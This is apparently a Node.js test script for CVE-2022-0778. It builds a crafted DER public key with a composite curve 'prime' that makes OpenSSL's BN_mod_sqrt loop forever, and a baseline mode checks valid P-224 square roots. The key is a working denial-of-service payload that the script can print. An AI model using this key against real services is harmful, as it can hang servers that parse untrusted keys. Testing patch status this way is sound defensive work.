'use strict';

// CVE-2022-0778: `explicit-curve-key.cjs attack` parses a public key whose curve is given by parameters with a
// composite "prime", which makes BN_mod_sqrt() loop for ever. `baseline` takes valid square roots through the same
// function: P-224 is the one common curve whose prime is 1 modulo 8, so that it runs the very loop that is patched.

const crypto = require('crypto');
const { whenTold, answer } = require('./when-told.cjs');

function der(tag, ...contents) {
  const content = Buffer.concat(contents);
  if (content.length > 127) throw new Error('this DER writer knows only short lengths');
  return Buffer.concat([Buffer.from([tag, content.length]), content]);
}
const hex = (text) => Buffer.from(text, 'hex');
const sequence = (...items) => der(0x30, ...items);
const integer = (text) => der(0x02, hex(text));
const octets = (text) => der(0x04, hex(text));
const bits = (text) => der(0x03, hex('00' + text));
const objectId = (text) => der(0x06, hex(text));

const EC_PUBLIC_KEY = objectId('2a8648ce3d0201');
const PRIME_FIELD = objectId('2a8648ce3d0101');

// The values are those of OpenSSL's own test of the fix. The generator is in compressed form: to find its y, OpenSSL
// takes a square root modulo 0x460201, which is 1237 x 3709; nothing has checked before that it is prime.
const attackKey = sequence(
  sequence(
    EC_PUBLIC_KEY,
    sequence(
      integer('01'),
      sequence(PRIME_FIELD, integer('460201')),
      sequence(octets('000000'), octets('20a7ee')),
      octets('02000000'),
      integer('460207'),
      integer('01'),
    ),
  ),
  bits('02000000'),
);

const VALID_KEY =
  'MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAESr/i+qh/S4TYiFXPlhdEFmUK1cnK/OQ49IwP4EFfCvSIhpDOtBjqjTwsbNr4RyU6htLiWzk4j0ml6SAuK9SjRQ==';

const parse = (key) => crypto.createPublicKey({ key, format: 'der', type: 'spki' });

function attack() {
  try {
    parse(attackKey);
    return 'accepted';
  } catch (error) {
    return 'refused';
  }
}

function baseline() {
  const lines = [parse(Buffer.from(VALID_KEY, 'base64')).asymmetricKeyType];
  for (let x = 1; x <= 12; x += 1) lines.push(decompressed(x.toString(16).padStart(56, '0')));
  return lines.join('\n');
}

/** Some of the small x lie on P-224 and have a root, some do not: both exits of the function are in the baseline. */
function decompressed(x) {
  try {
    return crypto.ECDH.convertKey('02' + x, 'secp224r1', 'hex', 'hex', 'uncompressed').slice(58);
  } catch (error) {
    return 'no point';
  }
}

if (process.argv[2] === 'key') process.stdout.write(attackKey);
else whenTold(() => answer(process.argv[2] === 'attack' ? attack() : baseline()));
